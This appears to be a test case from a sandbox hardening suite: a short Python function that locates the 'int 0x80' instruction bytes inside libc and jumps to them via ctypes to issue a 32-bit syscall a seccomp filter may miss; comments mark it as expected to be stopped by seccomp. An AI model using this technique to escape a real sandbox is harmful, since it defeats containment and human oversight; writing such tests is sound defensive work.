"""Jumps to the bytes of `int 0x80` wherever they occur in the C library, to make a 32-bit call the filter may not know."""
# stopped by: seccomp
# at D: skip
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    start = ctypes.cast(libc.printf, ctypes.c_void_p).value & ~4095
    at = ctypes.string_at(start, 1 << 20).find(b"\xcd\x80")
    if at < 0 or os.uname().machine != "x86_64":
        raise LookupError("there is no such instruction")
    return f"done: {ctypes.CFUNCTYPE(ctypes.c_int)(start + at)()}"
